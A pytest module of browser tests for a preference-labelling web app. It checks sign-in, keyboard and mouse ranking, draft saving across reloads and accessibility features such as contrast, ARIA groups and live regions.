"""The labelling app, started for real and driven in Debian's Chromium with Playwright.

    python -m pytest tests/labeling/test_app_browser.py -q
    ALIGN_SCREENSHOTS=1 python -m pytest tests/labeling/test_app_browser.py -q -k screenshots

One app (align/labeling/server.py: the sign-in page, the session cookie, the Gradio app behind them)
on a temp SQLite store serves most of the module; each test signs in as its own annotator, so
the tests do not share tasks. What a test checks is read back from the store, not from the
page. The tests of a hostile page or client (model text as HTML, a copied session hash, a
flood of anonymous requests, a replayed submit, an export target, password guessing) replay
what an attacker would send, through the real server. ALIGN_SCREENSHOTS=1 also rewrites
docs/img/annotator.png and admin.png.
"""

from __future__ import annotations

import http.server
import json
import random
import re
import secrets
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from gradio_queue import queued

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
if not Path(CHROMIUM).is_file():
    pytest.skip(f"{CHROMIUM} is absent (apt-get install chromium)", allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api")

REPO = Path(__file__).resolve().parents[2]
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--no-first-run"]
PASSWORD = "correct horse"
ANNOTATORS = ["mouse", "keys", "double", "ann1", "ann2", "plain", "seed", "reload", "victim", "mallory", "leaver",
              "replay", "locked", "framed", "blip", "stray", "aria", "wordy", "stale",
              "tabber", "listener", "late", "later", "quiet", "flagger", "enterer", "eraser", "typist",
              "racer"]
TIMEOUT_MS = 15_000
# A submit's call: task id, the page's account, the order's tag, shown_at, 8 ranks, verdict, all bad, 8 unsafe boxes,
# why, what the annotator changed on the page, the page's stamp (app.py submit_inputs)
SUBMIT_DATA = 25
VIEWPORT = {"width": 1280, "height": 900}

# A real-looking task for the screenshot: one prompt from data/support/prompts.jsonl and four
# replies of different quality (B invents a discount, C is curt, D is padded).
REFUND_PROMPT = ("I want my money back. I paid for Pro almost two weeks ago and the app has been garbage "
                 "the entire time.")
REFUND_REPLIES = [
    "I'm sorry Pro hasn't worked out for you. Since your payment was less than 14 days ago, you can get a "
    "full refund: go to Settings > Account > Billing > Request refund, or just reply here and I'll "
    "start it for you. It reaches your card in 5–10 business days.\n\nIf you have a minute, tell me what "
    "went wrong; if it's sync or search, there may be a quick fix.",
    "So sorry about that! I've gone ahead and refunded your last payment and added three months of Pro "
    "for free as an apology. Let me know if there's anything else!",
    "Refunds are available within 14 days. Use Settings > Account > Billing.",
    "Thank you so much for reaching out to Lumen Notes support, and I truly apologize for any "
    "inconvenience you may have experienced. We always value feedback from our users. Regarding "
    "refunds, our policy states that charges may be refunded in some cases depending on several "
    "factors. I would recommend reviewing our terms of service and contacting us again.",
]


def _support_tasks(n: int) -> list[dict]:
    """n K=4 tasks built from the shipped support data: the reference reply and three weaker ones."""
    rows = [json.loads(line) for line in (REPO / "data/support/train.jsonl").read_text().splitlines()]
    tasks = []
    for i, row in enumerate(rows[:n]):
        ref = row["output"]
        tasks.append({"prompt": row["instruction"], "responses": [
            ref,
            ref.split(". ")[0] + ". Let me know if that helps!",  # the first sentence only
            rows[i + 40]["output"],  # an answer to another question
            "Please read the help centre before writing to support.",
        ]})
    return tasks


@contextmanager
def running(store, **kwargs) -> Iterator[str]:
    """The real web app on `store`, served from a thread of this process; yields its URL."""
    from align.labeling.server import create_app
    from align.labeling.server import running as serve

    with serve(create_app(store, **kwargs)) as url:
        yield url


def exporter(store, run_dir: Path):
    """What `align label` hands the app for its Export button: `align export` on this run."""
    from align.cli import export_for_label_app

    return lambda: export_for_label_app(store.url, str(run_dir))


def new_store(folder: Path, *, admin: str = "boss"):
    from align.labeling.store import Store

    store = Store(f"sqlite:///{folder / 'labels.db'}")
    store.add_user(admin, PASSWORD, admin=True)
    return store


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """(url, store, run_dir) for one running app shared by the module; closed after it."""
    from align.labeling.auth import Throttle

    tmp = tmp_path_factory.mktemp("labels")
    store = new_store(tmp)
    for name in ANNOTATORS:
        store.add_user(name, PASSWORD)
    store.add_tasks("support-1", _support_tasks(60), source={"policy": "test"})
    # Lock-outs as in production, only short enough for a test to wait one out.
    with running(store, overlap=1, throttle=Throttle(first_lock=4.0), export=exporter(store, tmp),
                 export_dir=str(tmp / "preferences")) as url:
        yield url, store, tmp


@pytest.fixture(scope="module")
def browser():
    with sync_api.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport=VIEWPORT)
    context.set_default_timeout(TIMEOUT_MS)
    yield context.new_page()
    context.close()


def new_page(browser):
    page = browser.new_context(viewport=VIEWPORT).new_page()
    page.set_default_timeout(TIMEOUT_MS)
    return page


def sign_in(page, url: str, name: str, password: str = PASSWORD, *, expect_task: bool = True) -> None:
    page.goto(url)  # a browser without a session lands on the sign-in page
    page.fill("#align-name", name)
    page.fill("#align-password", password)
    page.click("#align-signin")
    if expect_task:
        page.wait_for_selector("#resp-a", state="visible")


def shown_task(page) -> tuple[str, list[str]]:
    """The prompt and the response texts in the order the page shows them (text, exactly as stored)."""
    prompt = page.inner_text("#align-prompt .align-text")
    bodies = [page.inner_text(f"#resp-{letter} .align-text") for letter in "abcd"]
    return prompt, bodies


def canonical(store, prompt: str, bodies: list[str], ranks_shown: list[int]) -> tuple[int, list[int]]:
    """(task_id, ranks in the store's order) for what the page showed: map shown -> canonical by text."""
    task = next(t for t in store_tasks(store) if t["prompt"] == prompt)
    ranks = [0] * len(task["responses"])
    for body, rank in zip(bodies, ranks_shown, strict=True):
        [index] = [i for i, r in enumerate(task["responses"]) if r == body]
        ranks[index] = rank
    return task["task_id"], ranks


def canonical_index(store, prompt: str, body: str) -> int:
    """The store's index of the response the page showed as `body` (of the task with `prompt`)."""
    task = next(t for t in store_tasks(store) if t["prompt"] == prompt)
    [index] = [i for i, r in enumerate(task["responses"]) if r == body]
    return index


def store_tasks(store) -> list[dict]:
    return [t for batch in store.batches() for t in store.batch_tasks(batch)]


def rankings_of(store, name: str) -> list[dict]:
    return [r for r in store.submitted_rankings() if r["annotator"] == name]


def error_overlays(page) -> int:
    """Gradio's "Error" boxes shown over components (its status tracker's), as over every output of a call the
    server refused before any handler ran."""
    return page.locator('[data-testid="status-tracker"] .error').evaluate_all(  # a hidden tracker: opacity 0
        "els => els.filter(e => e.offsetParent !== null"
        " && getComputedStyle(e.closest('[data-testid=\"status-tracker\"]')).opacity !== '0').length")


def wait_for_message(page, text: str) -> str:
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    try:
        page.wait_for_function(
            "t => document.querySelector('#align-message').innerText.includes(t)", arg=text)
    except PlaywrightTimeout:  # say what the page said instead (a timeout alone left a failure unexplained)
        shown = page.evaluate("document.querySelector('#align-message')?.innerText")
        focus = page.evaluate("document.activeElement && (document.activeElement.id || document.activeElement.tagName)")
        raise AssertionError(f"waited for {text!r} in the message; it says {shown!r} (focus on {focus!r})") from None
    return page.inner_text("#align-message")


def task_on_page(store, page, name: str) -> int:
    """The id of the task `name`'s page shows: the page names it by an opaque handle (handlers.task_handle)."""
    from align.labeling import handlers

    session = handlers.sign_in(store, name, PASSWORD)
    return handlers.task_of(store, session, page.input_value("#align-task-id input"))


def held_drafts(route) -> None:
    """A page.route handler for queue/join: every call but a submit is taken in and never run (the drafts of what
    follows, as if they landed after the submit)."""
    body = route.request.post_data_json if route.request.post_data else {}
    if len((body or {}).get("data", [])) == SUBMIT_DATA:
        route.continue_()
    else:
        route.fulfill(status=200, content_type="application/json", body=json.dumps({"event_id": secrets.token_hex(8)}))


def keys_ready(page) -> None:
    """Until the page takes keys for the task on screen: they wait 300 ms after a task is replaced (meant for the old
    one), counted from when the page saw it (a fixed 400 ms of the test's own left 100 ms for a busy machine)."""
    page.wait_for_function("window.alignKeysReady && window.alignKeysReady()")


def wait_for_another_task(page, task_id: str) -> None:
    """Until the page shows a task other than `task_id` (the page's handle of it). (Not "until #align-prompt's text changes": Gradio's
    loading overlay in that block has text of its own, and it changes before the next task is drawn.)"""
    page.wait_for_function("t => document.querySelector('#align-task-id input').value !== t", arg=task_id)


def wait_for_rows(store, name: str, n: int, timeout: float = 10.0) -> list[dict]:
    deadline = time.monotonic() + timeout
    while len(rows := rankings_of(store, name)) < n and time.monotonic() < deadline:
        time.sleep(0.1)
    return rows


def wait_for_draft(store, annotator: int, task_id: int, ranks: list[int], timeout: float = 10.0) -> list[int] | None:
    """The annotator's stored draft of `task_id` once it is `ranks` (or whatever it is after `timeout`)."""
    deadline = time.monotonic() + timeout
    while (draft := store.draft(annotator, task_id)) != ranks and time.monotonic() < deadline:
        time.sleep(0.1)
    return draft


def wait_for_draft_rationale(store, annotator: int, task_id: int, text: str, timeout: float = 10.0) -> str | None:
    """The rationale of the annotator's stored draft of `task_id` once it is `text` (or whatever it is after
    `timeout`)."""
    deadline = time.monotonic() + timeout
    while (drafted := (store.draft_notes(annotator, task_id) or {}).get("rationale")) != text and \
            time.monotonic() < deadline:
        time.sleep(0.1)
    return drafted


def wait_for_draft_flags(store, annotator: int, task_id: int, flags: set[str], timeout: float = 10.0) -> list[str]:
    """The flags of the annotator's stored draft of `task_id` once they include `flags` (or whatever they are after
    `timeout`)."""
    deadline = time.monotonic() + timeout
    while not flags <= set(drafted := (store.draft_notes(annotator, task_id) or {}).get("flags", [])) and \
            time.monotonic() < deadline:
        time.sleep(0.1)
    return drafted


def rank_all(page, ranks: list[int]) -> None:
    for letter, rank in zip("abcd", ranks, strict=True):
        page.click(f"#rank-{letter} label:has-text('{rank}')")


def traffic(page) -> list[str]:
    """Every answer of a Gradio route the page gets from now on, as "time status METHOD path": printed by a test when it fails (pytest
    shows a failed test's output), so a failure under load says which call went how."""
    seen: list[str] = []

    def note(response) -> None:
        if "/gradio_api/" in response.url:
            seen.append(f"{time.monotonic():.2f} {response.status} {response.request.method} "
                        f"{response.url.split('?')[0].rsplit('/gradio_api', 1)[-1]}")

    page.on("response", note)
    return seen


def wait_for_streams(seen: list[str], timeout: float = 10.0) -> None:
    """Until each call the page queued has had its event stream answered (`traffic`): Gradio's page asks for a
    call's answers (GET queue/data) after its join, and a refusal of that GET (a session ended meanwhile) is to
    Gradio's page a dropped connection, after which it sends nothing more. A test that ends the session waits."""
    deadline = time.monotonic() + timeout
    while (sum(" 200 POST /queue/join" in line for line in seen) > sum(" GET /queue/data" in line for line in seen)
           and time.monotonic() < deadline):
        time.sleep(0.05)


@contextmanager
def recorded_calls(page) -> Iterator[list[dict]]:
    """The bodies of the Gradio calls the page makes meanwhile: what a client sends for each event."""
    calls: list[dict] = []

    def record(request) -> None:
        if request.method == "POST" and "/gradio_api/" in request.url and request.post_data:
            calls.append(request.post_data_json)

    page.on("request", record)
    try:
        yield calls
    finally:
        page.remove_listener("request", record)


def submit_call(page) -> dict:
    """Submit with whatever is ranked, and return the call the page sent for it."""
    with recorded_calls(page) as calls:
        page.click("#align-submit")
        # the answer, not the loading overlay's "processing | 0.2s" that #align-message holds before it
        page.wait_for_function("/[✅⚠]/.test(document.querySelector('#align-message').innerText)")
    [call] = [c for c in calls if len(c.get("data", [])) == SUBMIT_DATA]
    assert re.fullmatch(r"[0-9a-z]+:[1-9][0-9]*", call["data"][-1]), call["data"][-1]  # set as it was sent
    return call


def test_sign_in_refuses_a_wrong_password(served, page):
    url, store, _ = served
    sign_in(page, url, "plain", "wrong password", expect_task=False)
    assert "unknown user or wrong password" in page.inner_text("#align-signin-error")
    assert page.evaluate(LOW_CONTRAST_JS) == []  # the sign-in button's white on orange was 2.8:1
    sign_in(page, url, "no-such-user", "wrong password", expect_task=False)
    assert "unknown user or wrong password" in page.inner_text("#align-signin-error")  # the same words
    assert page.locator("#resp-a, #align-submit").count() == 0  # the app is not even sent
    assert rankings_of(store, "plain") == []
    sign_in(page, url, "plain")  # the right password then works on the same page
    assert page.locator("#align-who").inner_text().startswith("Signed in as")


def test_rank_with_the_mouse_and_submit(served, page):
    url, store, _ = served
    sign_in(page, url, "mouse")
    prompt, bodies = shown_task(page)
    ranks = [3, 1, 4, 2]
    rank_all(page, ranks)
    page.click("#align-rationale textarea")
    page.keyboard.type("B has the exact menu path")
    page.click("#align-submit")
    wait_for_message(page, "✅")
    rows = wait_for_rows(store, "mouse", 1)
    task_id, expected = canonical(store, prompt, bodies, ranks)
    assert [(r["task_id"], r["ranks"]) for r in rows] == [(task_id, expected)]
    assert rows[0]["rationale"] == "B has the exact menu path"
    assert 0 < rows[0]["seconds"] < 120
    assert shown_task(page)[0] != prompt  # the next task is on screen


def test_rank_with_the_keyboard_ties_and_flags(served, page):
    url, store, _ = served
    sign_in(page, url, "keys")
    prompt, bodies = shown_task(page)
    page.locator("#align-progress").click()  # focus the page, outside any text box
    page.evaluate("document.body.dispatchEvent(new KeyboardEvent('keydown', {key: '3', isComposing: true, bubbles: true}))")
    assert page.locator("#rank-a input:checked").count() == 0  # an input method composing: its keys, no shortcut
    page.keyboard.type("2143")  # A=2, B=1, C=4, D=3 (the selection moves on after each digit)
    page.keyboard.press("c")
    page.keyboard.press("2")  # C=2: a tie with A
    page.keyboard.press("u")  # the selected response (D, after C's rank) is unsafe
    checked = [page.locator(f"#rank-{x} input:checked").get_attribute("value") for x in "abcd"]
    assert checked == ["2", "1", "2", "3"]
    page.keyboard.press("Enter")
    wait_for_message(page, "✅")
    rows = wait_for_rows(store, "keys", 1)
    task_id, expected = canonical(store, prompt, bodies, [2, 1, 2, 3])
    assert [(r["task_id"], r["ranks"]) for r in rows] == [(task_id, expected)]
    assert rows[0]["flags"] == [f"unsafe:{canonical_index(store, prompt, bodies[3])}"]

    prompt2, _ = shown_task(page)
    assert prompt2 != prompt
    page.locator("#align-progress").click()
    keys_ready(page)
    before = page.input_value("#align-task-id input")
    page.keyboard.press("Alt+s")  # skip: a new task, no ranking
    wait_for_another_task(page, before)
    assert len(rankings_of(store, "keys")) == 1
    # Skip clicked with the mouse, then the next task ranked by keys: Enter submits it (the focus left on Skip
    # made Enter click Skip again, and the ranked task was skipped)
    before = page.input_value("#align-task-id input")
    page.click("#align-skip")
    wait_for_another_task(page, before)
    keys_ready(page)
    page.wait_for_function("!document.activeElement?.closest('#align-skip')")  # the page's 300 ms blur of Skip
    page.keyboard.type("2143")
    page.keyboard.press("Enter")
    wait_for_message(page, "✅")
    assert len(wait_for_rows(store, "keys", 2)) == 2


def test_stray_keys_neither_skip_nor_rank_the_next_task(served, page):
    """A rationale typed before its box had the focus (the focus still on the last rank radio): its first "s"
    skipped the fully ranked task for good, and a space then ranked the next task. Now skip is Alt+S (not in a
    text box), and a rank radio loses the focus when the task is submitted or skipped."""
    from align.labeling import handlers

    url, store, _ = served
    annotator = handlers.sign_in(store, "stray", PASSWORD)["annotator_id"]
    sign_in(page, url, "stray")
    handle, first = page.input_value("#align-task-id input"), task_on_page(store, page, "stray")
    rank_all(page, [2, 1, 4, 3])  # the focus stays on D's radio
    page.keyboard.type("B is best", delay=20)
    page.locator("#align-rationale textarea").press("Alt+s")  # in a text box: the box's, not a skip
    page.wait_for_timeout(600)
    assert page.input_value("#align-task-id input") == handle
    assert store.assignment_status(annotator, first) == "assigned"
    assert [page.locator(f"#rank-{x} input:checked").get_attribute("value") for x in "abcd"] == ["2", "1", "4", "3"]
    page.click("#rank-d label:has-text('3')")
    page.keyboard.press("Alt+s")
    wait_for_another_task(page, handle)
    assert store.assignment_status(annotator, first) == "skipped"
    keys_ready(page)
    page.keyboard.press(" ")
    page.wait_for_timeout(400)
    assert page.locator(".align-response input:checked").count() == 0


def test_rank_radios_are_named_groups_for_screen_readers_and_the_keyboard(served, page):
    """A screen reader heard each rank radio as "1", "2", ... in no named group, and every radio had a name of
    its own: Tab stopped on each, the arrow keys moved nowhere. Now each set is a radiogroup named by its label,
    its radios "Rank of A: 1", ...; Tab goes group to group and an arrow key moves the rank (a draft, as a
    click), on the next task too (Gradio draws its radios again)."""
    from align.labeling import handlers

    url, store, _ = served
    annotator = handlers.sign_in(store, "aria", PASSWORD)["annotator_id"]
    sign_in(page, url, "aria")
    prompt, bodies = shown_task(page)
    for letter in "ABCD":
        group = page.get_by_role("radiogroup", name=f"Rank of {letter} (1 = best)")
        assert [group.get_by_role("radio", name=f"Rank of {letter}: {r}").count() for r in range(1, 5)] == [1] * 4
    page.get_by_role("radio", name="Rank of A: 1").click()
    page.keyboard.press("ArrowRight")
    assert page.locator("#rank-a input:checked").get_attribute("value") == "2"
    task_id, draft = canonical(store, prompt, bodies, [2, 0, 0, 0])
    assert wait_for_draft(store, annotator, task_id, draft) == draft
    page.keyboard.press("Tab")  # not A's next radio: A's own unsafe box, then the next group
    assert page.evaluate("document.activeElement.closest('#unsafe-a') !== null")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Rank of B: 1"
    page.locator("#align-progress").click()
    page.keyboard.type("2143")
    page.keyboard.press("Enter")
    wait_for_message(page, "✅")
    page.wait_for_function("p => document.querySelector('#align-prompt .align-text').innerText !== p", arg=prompt)
    group = page.get_by_role("radiogroup", name="Rank of C (1 = best)")
    group.get_by_role("radio", name="Rank of C: 4").wait_for()


def test_a_rank_set_before_the_submit_whose_draft_lands_after_it_says_nothing(served, page, browser, monkeypatch):
    """A fresh-clone CI run said "Not saved: this task was already submitted" after a keyboard submit that saved: C
    was ranked 4, then 2, then Enter. Each rank's draft runs in a queue of its own, so C=4's reached the store after
    the submit, with ranks other than the ones saved. A draft the page sent before its own submit says nothing
    now; one from another page of the same account still says its rank was not saved."""
    from align.labeling import handlers

    url, store, _ = served
    real, arrived = handlers.save_draft, []

    def slow(*args, **kwargs):  # every draft lands 1.5 s after it was sent: after a submit sent meanwhile
        arrived.append(list(args[3]))
        time.sleep(1.5)
        return real(*args, **kwargs)

    monkeypatch.setattr(handlers, "save_draft", slow)
    sign_in(page, url, "late")
    prompt, bodies = shown_task(page)
    page.locator("#align-progress").click()
    page.keyboard.type("2143")
    deadline = time.monotonic() + 10
    while not any(ranks[2] == "4" for ranks in arrived) and time.monotonic() < deadline:
        time.sleep(0.05)
    page.keyboard.press("c")
    page.keyboard.press("2")  # C=2: C=4's draft is on its way, to land after the submit
    page.keyboard.press("Enter")
    wait_for_message(page, "✅")
    task_id, expected = canonical(store, prompt, bodies, [2, 1, 2, 3])
    assert [(r["task_id"], r["ranks"]) for r in wait_for_rows(store, "late", 1)] == [(task_id, expected)]
    page.wait_for_timeout(3500)  # every draft has landed, refused
    assert "Not saved" not in page.inner_text("#align-message"), page.inner_text("#align-message")
    assert "✅" in page.inner_text("#align-message")

    # Two pages of one account on one task: the second's rank, set after the first submitted, is said lost.
    first, second = new_page(browser), new_page(browser)
    try:
        sign_in(first, url, "later")
        sign_in(second, url, "later")
        assert first.input_value("#align-task-id input") == second.input_value("#align-task-id input")
        first.locator("#align-progress").click()
        first.keyboard.type("1234")
        first.click("#align-submit")
        wait_for_message(first, "✅")
        second.get_by_role("radio", name="Rank of B: 3").click()  # B was submitted 2
        said = wait_for_message(second, "Not saved")
        assert "already submitted" in said, said
    finally:
        first.context.close()
        second.context.close()


# WCAG's contrast ratio of two CSS colours ("rgb(r, g, b)"), for the two page scripts below
RATIO_JS = """const lum = (c) => c.match(/[0-9.]+/g).slice(0, 3).map(Number).map((v) => {
    v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; })
    .reduce((sum, v, i) => sum + [0.2126, 0.7152, 0.0722][i] * v, 0);
  const ratio = (fg, bg) => { const [a, b] = [lum(fg), lum(bg)]; return (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05); };"""

# [ratio, tag, id, text] of each visible element whose own text reads at under 4.5:1 on the background behind it
LOW_CONTRAST_JS = """() => {
  """ + RATIO_JS + """
  const bg = (el) => { for (let e = el; e; e = e.parentElement) { const c = getComputedStyle(e).backgroundColor; const m = c.match(/[0-9.]+/g);
     if (m && (m.length < 4 || Number(m[3]) > 0.5)) return c; } return 'rgb(255,255,255)'; };
  const out = [];
  for (const el of document.querySelectorAll('body *')) {
    if (!el.offsetParent || el.closest('button:disabled, [aria-disabled="true"]')) continue;  // WCAG: inactive, exempt
    const own = [...el.childNodes].filter((n) => n.nodeType === 3 && n.textContent.trim()).map((n) => n.textContent.trim()).join(' ');
    if (!own) continue;
    const r = ratio(getComputedStyle(el).color, bg(el));
    if (r < 4.5) out.push([r.toFixed(2), el.tagName, el.id || el.className, own.slice(0, 40)]);
  }
  return out;
}"""

CONTRAST_JS = """sel => {
  """ + RATIO_JS + """
  const s = getComputedStyle(document.querySelector(sel));
  return ratio(s.color, s.backgroundColor);
}"""


def test_the_page_has_a_heading_readable_buttons_and_single_keys_that_can_be_turned_off(served, page):
    """Three accessibility faults: no h1 (a screen reader's list of headings began at "align · labelling" as h2),
    Submit's white on orange at 2.8:1 (WCAG AA asks 4.5:1), and single-key shortcuts with no way to turn them off
    (WCAG 2.1.4: speech input types letters and digits, which ranked and submitted). Now the page's title is its
    h1, Submit reads at >= 4.5:1, and a checkbox turns the single keys off, remembered by the browser; Ctrl+Enter
    (a key with a modifier) still submits. Every text on the page reads at >= 4.5:1."""
    url, store, _ = served
    sign_in(page, url, "quiet")
    assert page.get_by_role("heading", level=1).inner_text().strip() == "align · labelling"
    assert page.evaluate(CONTRAST_JS, "#align-submit") >= 4.5
    assert page.evaluate(LOW_CONTRAST_JS) == []  # the selected tab's orange name was 2.8:1 too
    page.get_by_label("Single-key shortcuts (letters, digits, Enter)").uncheck()
    page.locator("#align-progress").click()
    page.keyboard.type("1234")
    page.keyboard.press("Enter")
    page.wait_for_timeout(500)
    assert page.locator(".align-response input:checked").count() == 0 and rankings_of(store, "quiet") == []
    page.reload()
    page.wait_for_selector("#resp-a", state="visible")
    box = page.get_by_label("Single-key shortcuts (letters, digits, Enter)")
    box.wait_for()
    page.wait_for_function("!document.querySelector('#align-keys input').checked")  # this browser's choice, kept
    page.locator("#align-progress").click()
    page.keyboard.type("21")
    assert page.locator(".align-response input:checked").count() == 0
    for letter, rank in zip("abcd", "2143", strict=True):  # ranked by mouse, submitted with a modifier key
        page.get_by_role("radio", name=f"Rank of {letter.upper()}: {rank}").click()
    page.locator("#align-progress").click()
    page.keyboard.press("Control+Enter")
    wait_for_message(page, "✅")
    assert len(wait_for_rows(store, "quiet", 1)) == 1
    box.check()  # on again: the digits rank
    page.locator("#align-progress").click()
    keys_ready(page)
    page.keyboard.type("12")
    assert [page.locator(f"#rank-{x} input:checked").count() for x in "ab"] == [1, 1]


def test_after_ctrl_enter_in_the_rationale_the_next_tasks_keys_rank_it(served, page):
    """Ctrl+Enter in the rationale submitted and left the focus in the next task's rationale box: the 2 1 4 3 a
    keyboard annotator pressed next were typed into it, and stored with that ranking. The box gives the focus back
    as a rank radio does."""
    url, store, _ = served
    sign_in(page, url, "typist")
    handle = page.input_value("#align-task-id input")
    rank_all(page, [2, 1, 4, 3])
    page.locator("#align-rationale textarea").press_sequentially("B is best")
    page.locator("#align-rationale textarea").press("Control+Enter")
    wait_for_another_task(page, handle)
    keys_ready(page)
    page.keyboard.type("2143")
    assert [page.locator(f"#rank-{x} input:checked").get_attribute("value") for x in "abcd"] == ["2", "1", "4", "3"]
    assert page.input_value("#align-rationale textarea") == ""
    assert wait_for_rows(store, "typist", 1)[0]["rationale"] == "B is best"


def test_the_digit_keys_rank_the_response_whose_radios_have_the_focus(served, page):
    """Tab to C's rank radios, then "2": the focus ring was on C, yet the digit ranked A (the response selected
    before, highlighted far above), so a keyboard annotator submitted ranks on the wrong responses. Now the
    response whose radios get the focus is the one selected, and a digit moves the focus on with the selection."""
    url, store, _ = served
    sign_in(page, url, "tabber")
    page.get_by_role("radio", name="Rank of A: 1").focus()
    for _ in range(4):  # A's unsafe box, B's radios, B's unsafe box, C's radios
        page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Rank of C: 1"
    assert page.evaluate("document.querySelector('.align-selected').id") == "resp-c"
    # and the focus can be seen: Gradio's radios only turned their 1 px border orange
    ring = page.evaluate("(e => { const c = getComputedStyle(e); return [c.outlineStyle, c.outlineWidth]; })"
                         "(document.activeElement)")
    assert ring[0] not in ("none", "hidden") and float(ring[1].removesuffix("px")) >= 2, ring
    page.keyboard.press("2")
    page.keyboard.press("3")  # the selection, and the focus, moved on to D
    checked = [page.locator(f"#rank-{x} input:checked").get_attribute("value")
               if page.locator(f"#rank-{x} input:checked").count() else None for x in "abcd"]
    assert checked == [None, None, "2", "3"]
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Rank of D: 3"
    page.keyboard.press("a")  # a letter takes the focus to that response's radios too
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Rank of A: 1"
    page.keyboard.type("14")
    checked = [page.locator(f"#rank-{x} input:checked").get_attribute("value") for x in "abcd"]
    assert checked == ["1", "4", "2", "3"]


def test_the_message_after_a_submit_is_read_out_each_time(served, page):
    """"Saved. Next task." and "Not saved: ..." were only drawn: no live region held them, so a screen reader said
    nothing after a submit, and the same words after the next submit left the page's element as it was. Now each
    message is read out from the page's polite live region, the second "Saved" too, and a late rank's refusal."""
    url, store, _ = served
    sign_in(page, url, "listener")
    region = page.locator("#align-announce")
    assert (region.get_attribute("role"), region.get_attribute("aria-live")) == ("status", "polite")
    assert not region.is_visible() or region.bounding_box()["width"] <= 1  # read, not drawn
    page.evaluate("""() => { window.heard = []; new MutationObserver(() => {
      const t = document.getElementById('align-announce').textContent; if (t) window.heard.push(t);
    }).observe(document.getElementById('align-announce'), {childList: true, characterData: true, subtree: true}); }""")
    for n in (1, 2):
        handle = page.input_value("#align-task-id input")
        page.locator("#align-progress").click()
        keys_ready(page)
        page.keyboard.type("2143")
        page.keyboard.press("Enter")
        wait_for_another_task(page, handle)
        page.wait_for_function("n => window.heard.length >= n", arg=n)
    assert page.evaluate("window.heard") == ["✅ Saved. Next task."] * 2


def test_a_response_selected_by_key_is_scrolled_into_view(tmp_path, browser):
    """Eight responses on a 1280x720 window: E..H are below the fold, and selecting them by key only moved the
    highlight, so the annotator ranked responses she could not see. Now the selected one is scrolled into view."""
    store = new_store(tmp_path)
    store.add_user("eight", PASSWORD)
    store.add_tasks("k8", [{"prompt": "How do I export my notes?",
                            "responses": [f"Answer {i}. " + "Some words here. " * (4 + 6 * i) for i in range(8)]}])
    page = browser.new_context(viewport={"width": 1280, "height": 720}).new_page()
    page.set_default_timeout(TIMEOUT_MS)
    in_view = "l => { const r = document.getElementById('resp-' + l).getBoundingClientRect(); " \
              "return r.top > -1 && r.bottom < innerHeight + 1; }"  # whole, give or take a rounding
    try:
        with running(store) as url:
            sign_in(page, url, "eight")
            assert not page.evaluate(in_view, "e")
            page.locator("#align-progress").click()
            page.keyboard.type("1234")  # A..D ranked: E is selected
            page.wait_for_function(in_view, arg="e")
            assert page.evaluate(in_view, "e")
            page.keyboard.press("h")
            page.wait_for_function(in_view, arg="h")
            page.keyboard.press("a")
            page.wait_for_function(in_view, arg="a")
            page.context.close()  # before the server stops: it would wait for the page's open streams
    finally:
        page.context.close()


def test_a_rationale_cut_at_its_limit_says_so(served, page):
    """The rationale box stops at 5,000 characters (its maxlength): a longer paste was cut without a word. Now
    the label gives the limit and a note under the box says while it is full that the rest was not taken."""
    url, store, _ = served
    sign_in(page, url, "wordy")
    assert "at most 5,000 characters" in page.inner_text("#align-rationale")
    box = page.locator("#align-rationale textarea")
    box.click()
    page.keyboard.insert_text("x" * 6000)  # as a paste inserts it
    assert len(box.input_value()) == 5000
    page.wait_for_selector("#align-rationale-full", state="visible")
    assert "at most 5,000 characters" in page.inner_text("#align-rationale-full")
    box.press("Backspace")
    page.wait_for_selector("#align-rationale-full", state="hidden")


def test_a_partial_ranking_survives_a_reload(served, browser):
    """Ranks, flags and the rationale set before a reload (or a crash of the tab) are saved as a draft and
    shown again."""
    from align.labeling import handlers

    url, store, _ = served
    annotator = handlers.sign_in(store, "reload", PASSWORD)["annotator_id"]
    first = new_page(browser)
    sign_in(first, url, "reload")
    prompt, bodies = shown_task(first)
    first.click("#rank-a label:has-text('2')")
    first.click("#rank-b label:has-text('1')")
    first.click("#unsafe-b input")
    first.locator("#align-rationale textarea").press_sequentially("B gives the steps")
    task_id, partial = canonical(store, prompt, bodies, [2, 1, 0, 0])
    notes = {"flags": [f"unsafe:{canonical_index(store, prompt, bodies[1])}"], "rationale": "B gives the steps"}
    deadline = time.monotonic() + 10
    while (store.draft(annotator, task_id), store.draft_notes(annotator, task_id)) != (partial, notes) and \
            time.monotonic() < deadline:
        time.sleep(0.1)
    assert store.draft(annotator, task_id) == partial and store.draft_notes(annotator, task_id) == notes
    first.context.close()  # the tab is gone without a submit

    again = new_page(browser)
    try:
        sign_in(again, url, "reload")
        assert shown_task(again) == (prompt, bodies)  # the same task, in the same shuffled order
        checked = [again.locator(f"#rank-{x} input:checked") for x in "abcd"]
        assert [c.get_attribute("value") if c.count() else None for c in checked] == ["2", "1", None, None]
        assert again.is_checked("#unsafe-b input") and not again.is_checked("#align-all-bad input")
        assert [again.is_checked(f"#unsafe-{x} input") for x in "acd"] == [False] * 3
        assert again.input_value("#align-rationale textarea") == "B gives the steps"
        again.click("#rank-c label:has-text('4')")
        again.click("#rank-d label:has-text('3')")
        again.click("#align-submit")
        wait_for_message(again, "✅")
        rows = wait_for_rows(store, "reload", 1)
        assert [(r["task_id"], r["ranks"]) for r in rows] == [canonical(store, prompt, bodies, [2, 1, 4, 3])]
        assert rows[0]["flags"] == notes["flags"] and rows[0]["rationale"] == "B gives the steps"
        assert store.draft(annotator, task_id) is None  # the draft became the submitted ranking
    finally:
        again.context.close()


